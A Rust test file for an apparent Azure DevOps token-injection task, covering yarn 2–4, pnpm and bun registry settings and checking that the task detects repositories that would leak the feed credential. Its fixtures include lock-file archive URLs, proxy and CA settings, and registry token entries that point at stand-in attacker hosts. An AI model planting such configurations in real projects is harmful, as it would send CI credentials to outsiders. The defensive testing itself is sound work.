//! yarn 2 and later in later steps: `.yarnrc.yml` in its forms, and what in a repository would lead the token elsewhere.

use std::path::PathBuf;

use ado_entra_auth_emulator::agent::{Job, Variable};
use ado_entra_auth_emulator::world::Package;

use crate::npm::{FEED, installed, package};
use crate::support::{
    EVIL, assert_failed, assert_nothing_sent_to, emulator, finish, job, only_brought, read, run, side_by_side, step,
    variable, warned, with_token, write, write_file,
};

const VERSIONS: [&str; 3] = ["yarn2", "yarn3", "yarn4"];
const SETTINGS: &str = "enableImmutableInstalls: false\nenableTelemetry: false\nnodeLinker: node-modules\n";

fn program(version: &str) -> Option<PathBuf> {
    only_brought(&format!("javascript/node_modules/{version}/bin/yarn.js"))
}

fn settings(rest: &str) -> String {
    format!("{SETTINGS}{rest}")
}

fn of_feed(rest: &str) -> String {
    settings(&format!("npmRegistryServer: {FEED}\n{rest}"))
}

fn write_project(job: &Job<'_>, folder: &str, settings: &str) {
    write(job, &format!("{folder}/.yarnrc.yml"), settings);
    write(job, &format!("{folder}/package.json"), package(&["@contoso/hello"]));
    write(job, &format!("{folder}/yarn.lock"), "");
}

/// Whether it installs in a folder of the checkout, and what it says.
fn installs(job: &mut Job<'_>, program: &std::path::Path, folder: &str) -> (bool, String) {
    let folder = job.sources().join(folder);
    let seen = job.run_script(&format!("'{}' install", program.display()), &folder).unwrap();
    (seen.succeeded() && installed(&folder, "hello-contoso"), seen.raw)
}

#[test]
fn every_form_of_a_registry_works_in_a_later_step() {
    let rows = [
        ("plain", format!("npmRegistryServer: \"{FEED}\"\n")),
        ("no last slash", format!("npmRegistryServer: {}\n", FEED.trim_end_matches('/'))),
        (
            "flow",
            format!("{{npmRegistryServer: '{FEED}', nodeLinker: node-modules, enableImmutableInstalls: false}}\n"),
        ),
        ("default", format!("npmRegistryServer: \"${{NOT_THERE-{FEED}}}\"\n")),
        ("variable", "npmRegistryServer: ${MY_REGISTRY}\n".to_owned()),
        ("scope", format!("npmScopes:\n  contoso:\n    npmRegistryServer: {FEED}\nnpmRegistryServer: {FEED}\n")),
        (
            "older host",
            "npmRegistryServer: https://contoso.pkgs.visualstudio.com/_packaging/feed1/npm/registry/\n".to_owned(),
        ),
        (
            "upper case",
            "npmRegistryServer: https://PKGS.DEV.AZURE.COM/CONTOSO/_packaging/Feed1/npm/registry/\n".to_owned(),
        ),
        (
            "view",
            "npmRegistryServer: https://pkgs.dev.azure.com/contoso/_packaging/feed1@Local/npm/registry/\n".to_owned(),
        ),
        (
            "default port",
            "npmRegistryServer: https://pkgs.dev.azure.com:443/contoso/_packaging/feed1/npm/registry/\n".to_owned(),
        ),
        (
            "entry without credential",
            format!("npmRegistryServer: {FEED}\nnpmRegistries:\n  //registry.example.com:\n    npmAlwaysAuth: true\n"),
        ),
    ];
    let rows: Vec<_> = VERSIONS.iter().flat_map(|version| rows.iter().map(move |row| (*version, row))).collect();
    side_by_side(3, &rows, |(version, (name, rc))| {
        let Some(program) = program(version) else { return };
        let emulator = emulator();
        let mut job = job(&emulator);
        job.set_variable(Variable::public("MY_REGISTRY", FEED));
        let rc = if rc.starts_with('{') { rc.clone() } else { settings(rc) };
        write_project(&job, "app", &rc);
        let outcome = run(&emulator, &mut job, &step());
        assert!(outcome.warnings.is_empty(), "{version}, {name}: {:?}", outcome.warnings);
        let (works, said) = installs(&mut job, &program, "app");
        assert!(works, "{version}, {name}: {said}");
        assert_eq!(read(job.sources().join("app/.yarnrc.yml")), rc);
        finish(&mut job);
    });
}

/// yarn sends a registry's credential to wherever its lock file says that an archive lies.
#[test]
fn a_lock_file_that_names_another_host_takes_the_credential_away() {
    let archive = |url: &str| format!("::__archiveUrl={url}");
    let elsewhere = format!(
        "https%3A%2F%2F{EVIL}%2Fcontoso%2F_packaging%2Ffeed1%2Fnpm%2Fregistry%2F@contoso%2Fhello%2F-%2Fhello-1.0.0.tgz"
    );
    let own = "https%3A%2F%2Fcontoso.pkgs.visualstudio.com%2F_packaging%2Ffeed1%2Fnpm%2Fregistry%2F@contoso%2Fhello%2F-%2Fhello-1.0.0.tgz";
    let rows: Vec<_> = VERSIONS
        .into_iter()
        .flat_map(|version| [(version, archive(&elsewhere), false), (version, archive(own), true)])
        .collect();
    side_by_side(3, &rows, |(version, bound, serves)| {
        let Some(program) = program(version) else { return };
        let emulator = emulator();
        emulator.change(|world| {
            let evil = world.foreign_hosts.iter_mut().find(|host| host.name == EVIL).unwrap();
            evil.packages.push(Package::npm("@contoso/hello", "1.0.0", &[]));
        });
        let mut first = job(&emulator);
        write_project(&first, "app", &of_feed(""));
        run(&emulator, &mut first, &step());
        let (works, said) = installs(&mut first, &program, "app");
        assert!(works, "{version}: {said}");
        let lock = read(first.sources().join("app/yarn.lock"));
        finish(&mut first);

        let mut job = job(&emulator);
        write_project(&job, "app", &of_feed(""));
        let changed = lock.replace("@contoso/hello@npm:1.0.0\"\n", &format!("@contoso/hello@npm:1.0.0{bound}\"\n"));
        let resolved = format!("resolution: \"@contoso/hello@npm:1.0.0{bound}\"");
        let changed =
            changed.replace(&format!("\"@contoso/hello@npm:1.0.0{bound}\":"), "\"@contoso/hello@npm:1.0.0\":");
        assert!(changed.contains(&resolved), "{version}: {changed}");
        let without_sums: String = changed.split_inclusive('\n').filter(|line| !line.contains("checksum")).collect();
        write(&job, "app/yarn.lock", without_sums);
        let outcome = run(&emulator, &mut job, &step());
        assert_eq!(warned(&outcome, &["yarn: app/yarn.lock", EVIL]), !serves, "{version}: {:?}", outcome.warnings);
        emulator.clear_requests();
        let (works, said) = installs(&mut job, &program, "app");
        assert_eq!(works, *serves, "{version}: {said}");
        assert!(!emulator.secret_was_sent_to(EVIL), "{version}: {:?}", emulator.requests_to(EVIL));
        finish(&mut job);
    });
}

#[test]
fn settings_that_open_the_traffic_to_others_take_the_credential_away() {
    let proxy = "http://evil.example:8099";
    let rows: [(&[(&str, String)], &str); 11] = [
        (&[(".yarnrc.yml", of_feed(&format!("httpsProxy: {proxy}\n")))], "app/.yarnrc.yml line 5 sends the traffic"),
        (
            &[(".yarnrc.yml", of_feed(&format!("\"https\\x50roxy\": {proxy}\n")))],
            "app/.yarnrc.yml line 5 sends the traffic",
        ),
        (&[(".yarnrc.yml", of_feed("enableStrictSsl: false\n"))], "switches off"),
        (&[(".yarnrc.yml", of_feed("caFilePath: ./evil.pem\n"))], "adds trust"),
        (&[(".yarnrc.yml", of_feed("httpsCaFilePath: ./evil.pem\n"))], "adds trust"),
        (
            &[(".yarnrc.yml", of_feed(&format!("networkSettings:\n  \"pkgs.*\":\n    httpsProxy: {proxy}\n")))],
            "line 7 sends the traffic",
        ),
        (&[(".yarnrc.yml", of_feed("lockfileFilename: other.lock\n"))], "another lock file"),
        (
            &[
                (".yarnrc.yml", of_feed("httpsProxy: \"${PROXY_OF_STEP}\"\n")),
                (".env.yarn", format!("PROXY_OF_STEP={proxy}\n")),
            ],
            ".env.yarn may set",
        ),
        (
            &[
                (".yarnrc.yml", of_feed("httpsProxy: \"${HTTPS_PROXY}\"\ninjectEnvironmentFiles: [e]\n")),
                ("e", String::new()),
            ],
            ".env.yarn may set",
        ),
        (
            &[(".yarnrc.yml", settings("a: &a {b: c}\n<<: *a\n")), ("sub/.yarnrc.yml", of_feed(""))],
            "may find in app/.yarnrc.yml",
        ),
        (
            &[(".yarnrc.yml", of_feed("")), ("sub/.yarnrc.yml", "enableStrictSsl: false\n".to_owned())],
            "app/sub/.yarnrc.yml line 1",
        ),
    ];
    side_by_side(4, &rows, |(files, words)| {
        let emulator = emulator();
        let mut job = job(&emulator);
        write_project(&job, "app", "");
        for (path, text) in *files {
            write(&job, &format!("app/{path}"), text);
        }
        let outcome = run(&emulator, &mut job, &step());
        assert!(warned(&outcome, &["yarn: ", words]), "{words}: {:?}", outcome.warnings);
        assert!(!job.root().join("_work/1/.yarnrc.yml").exists(), "{words}");
        let holding = job.variables().iter().filter(|variable| {
            variable.name.starts_with("ADO_ENTRA_AUTH_") && !emulator.leaks_in(variable.value.as_bytes()).is_empty()
        });
        assert_eq!(holding.count(), 0, "{words}");
        finish(&mut job);
    });
    // What the job itself does, or the step's own environment, is no peril.
    for rest in [
        "httpsProxy: \"${HTTPS_PROXY}\"\n",
        "httpsProxy: \"${ONLY_IN_THE_STEP-}\"\n",
        "httpsProxy: \"${ONLY_IN_THE_STEP}\"\n",
        "caFilePath: \"${NODE_EXTRA_CA_CERTS}\"\n",
    ] {
        let emulator = emulator();
        let mut job = job(&emulator);
        write_project(&job, "app", &of_feed(rest));
        let outcome = run(&emulator, &mut job, &step());
        assert!(outcome.warnings.is_empty(), "{rest}: {:?}", outcome.warnings);
    }
}

#[test]
fn a_repository_that_shows_the_token_to_another_registry_stops_the_step() {
    let yarn = |rest: String| (".yarnrc.yml", settings(&rest), "an address");
    for (file, text, host) in [
        yarn(format!(
            "npmScopes:\n  contoso:\n    npmRegistryServer: {FEED}\nnpmAlwaysAuth: true\nnpmAuthToken: \"${{ADO_ENTRA_TOKEN}}\"\n"
        )),
        yarn(format!("npmRegistryServer: {FEED}\nnpmScopes:\n  e:\n    npmAuthToken: \"${{ADO_ENTRA_TOKEN-x}}\"\n")),
        (
            ".yarnrc.yml",
            of_feed(&format!("npmRegistries:\n  https://{EVIL}:\n    npmAuthToken: \"${{ADO_ENTRA_TOKEN}}\"\n")),
            EVIL,
        ),
        (
            "bunfig.toml",
            format!(
                "[install]\nregistry = \"{FEED}\"\n[install.scopes.e]\nurl = \"https://{EVIL}/\"\ntoken = \"$ADO_ENTRA_TOKEN\"\n"
            ),
            EVIL,
        ),
    ] {
        let emulator = emulator();
        let mut job = job(&emulator);
        write(&job, file, &text);
        let outcome = job.run_task(&step().input("tools", "yarn, bun")).unwrap();
        assert_failed(&emulator, &outcome, &[file, "ADO_ENTRA_TOKEN", host]);
    }
}

/// Those of the user's in the file above the checkout, and those of the repository, which are nearer.
#[test]
fn entries_of_others_for_the_same_registry_stay_and_are_told() {
    let key = FEED.trim_end_matches('/');
    let entry = |key: &str| format!("npmRegistries:\n  \"{key}\":\n    npmAuthToken: theirs\n");
    for (above, app, words) in [
        (entry(key), String::new(), "_work/1/.yarnrc.yml line 3"),
        (entry(key.trim_start_matches("https:")), String::new(), "_work/1/.yarnrc.yml line 3"),
        (String::new(), entry(key), "app/.yarnrc.yml line 7"),
        (
            String::new(),
            format!("npmScopes:\n  a:\n    npmRegistryServer: {FEED}\n    npmAuthIdent: a:b\n"),
            "app/.yarnrc.yml line 8",
        ),
        (entry("https://registry.example.com"), String::new(), ""),
    ] {
        let emulator = emulator();
        let mut job = job(&emulator);
        let file = job.root().join("_work/1/.yarnrc.yml");
        if !above.is_empty() {
            write_file(&file, &above);
        }
        write_project(&job, "app", &of_feed(&app));
        let outcome = run(&emulator, &mut job, &step());
        assert_eq!(outcome.warnings.len(), usize::from(!words.is_empty()), "{:?}", outcome.warnings);
        assert!(words.is_empty() || warned(&outcome, &[words, "remove it there"]), "{:?}", outcome.warnings);
        if words.starts_with("_work") {
            assert_eq!(read(&file), above);
        } else {
            assert!(
                read(&file).contains("_CONTOSO-}\"")
                    && read(&file).contains(above.trim_start_matches("npmRegistries:\n"))
            );
        }
        finish(&mut job);
        assert_eq!(read(&file), above, "after the job");
    }
}

/// Where the work is not below the pipeline's workspace, the file at home is shared with other jobs.
#[test]
fn the_home_folder_serves_a_project_beside_the_pipelines_workspace() {
    let Some(program) = program("yarn4") else { return };
    let emulator = emulator();
    let mut job = job(&emulator);
    let folder = job.home().join("project");
    for (path, text) in
        [(".yarnrc.yml", of_feed("")), ("package.json", package(&["@contoso/hello"])), ("yarn.lock", String::new())]
    {
        write_file(&folder.join(path), text);
    }
    write_file(&job.home().join(".yarnrc.yml"), "enableColors: false\n");
    let outcome = run(&emulator, &mut job, &step().input("workingDirectory", &folder.display().to_string()));
    assert!(outcome.warnings.is_empty(), "{:?}", outcome.warnings);
    assert!(!variable(&job, "ADO_ENTRA_AUTH_YARN_CONTOSO").is_empty());
    let seen = job.run_script(&format!("'{}' install", program.display()), &folder).unwrap();
    assert!(seen.succeeded() && installed(&folder, "hello-contoso"), "{}", seen.raw);
    finish(&mut job);
    assert_eq!(read(job.home().join(".yarnrc.yml")), "enableColors: false\n");
}

#[test]
fn the_file_has_the_name_that_the_job_gives_it() {
    let Some(program) = program("yarn4") else { return };
    for (name, serves) in [(".yarnrc.ci.yml", true), ("settings.txt", false)] {
        let emulator = emulator();
        let mut job = job(&emulator);
        job.set_variable(Variable::public("YARN_RC_FILENAME", name));
        write_project(&job, "app", "");
        write(&job, &format!("app/{name}"), of_feed(""));
        write(&job, "other/.yarnrc.yml", of_feed(""));
        let outcome = run(&emulator, &mut job, &step());
        assert_eq!(warned(&outcome, &["yarn: ", "YARN_RC_FILENAME"]), !serves, "{:?}", outcome.warnings);
        assert_eq!(installs(&mut job, &program, "app").0, serves);
        finish(&mut job);
    }
}

/// Which names of the input serve which project, and what is said of a project of another kind.
#[test]
fn names_of_the_family_serve_what_they_say() {
    let npmrc = format!("registry={FEED}\n");
    for (tools, files, served) in [
        ("auto", vec![(".npmrc", npmrc.clone())], vec!["npm:"]),
        ("auto", vec![(".yarnrc.yml", of_feed(""))], vec!["yarn:"]),
        ("auto", vec![(".npmrc", npmrc.clone()), (".yarnrc.yml", of_feed(""))], vec!["npm:", "yarn:"]),
        ("auto", vec![(".npmrc", npmrc.clone()), ("bun.lock", "{}".to_owned())], vec!["npm:", "bun:"]),
        ("auto", vec![("bunfig.toml", format!("[install]\nregistry = \"{FEED}\"\n"))], vec!["npm:", "bun:"]),
        ("yarn", vec![(".npmrc", npmrc.clone())], vec!["npm:"]),
        ("yarn", vec![(".yarnrc.yml", of_feed(""))], vec!["yarn:"]),
        ("pnpm", vec![("pnpm-workspace.yaml", format!("registry: {FEED}\n"))], vec!["npm:"]),
        ("npm", vec![(".npmrc", npmrc.clone()), ("bun.lock", "{}".to_owned())], vec!["npm:"]),
        ("bun", vec![(".npmrc", npmrc.clone())], vec!["npm:", "bun:"]),
        ("yarn", vec![], vec![]),
    ] {
        let emulator = emulator();
        let mut job = job(&emulator);
        for (path, text) in &files {
            write(&job, path, text);
        }
        // Without the newer bun that the tests have brought.
        let step = crate::support::step_with_env(&["PATH=/usr/local/bin:/usr/bin:/bin"]);
        let outcome = run(&emulator, &mut job, &step.input("tools", tools));
        let nothing = usize::from(files.is_empty());
        assert_eq!(outcome.warnings.len(), nothing, "{tools}: {:?}", outcome.warnings);
        assert!(nothing == 0 || warned(&outcome, &["yarn: no file"]), "{:?}", outcome.warnings);
        for name in ["npm:", "yarn:", "bun:"] {
            let is_said =
                outcome.log.lines().any(|line| line.trim_start().starts_with(name) && line.contains("by a variable"));
            assert_eq!(is_said, served.contains(&name), "{tools} {name}\n{}", outcome.log);
        }
        finish(&mut job);
    }
}

/// pnpm 11 is pointed past npm's file by variables of its own.
#[test]
fn pnpm_11_gets_the_keys_in_the_file_that_the_job_names_for_it() {
    let (Some(pnpm), Some(node)) = (
        only_brought("javascript/node_modules/pnpm11/bin/pnpm.mjs"),
        only_brought("nodes/node_modules/node22/bin/node"),
    ) else {
        return;
    };
    for name in ["PNPM_CONFIG_NPMRC_AUTH_FILE", "PNPM_CONFIG_USERCONFIG"] {
        let emulator = emulator();
        let mut job = job(&emulator);
        let own = job.root().join("own.rc");
        write_file(&own, "//registry.example.com/:_authToken=own\n");
        job.set_variable(Variable::public(name, &own.display().to_string()));
        write(&job, ".npmrc", format!("registry={FEED}\n"));
        write(&job, "package.json", package(&["@contoso/hello"]));
        run(&emulator, &mut job, &step());
        assert!(read(variable(&job, name)).starts_with("//registry.example.com/:_authToken=own\n"), "{name}");
        emulator.clear_requests();
        let sources = job.sources();
        let seen = job
            .run_script(&format!("'{}' '{}' install --no-frozen-lockfile", node.display(), pnpm.display()), &sources)
            .unwrap();
        assert!(seen.succeeded() && !with_token(&emulator.requests()).is_empty(), "{name}: {}", seen.raw);
        assert_nothing_sent_to(&emulator, EVIL);
        finish(&mut job);
        assert_eq!(variable(&job, name), own.display().to_string());
    }
}
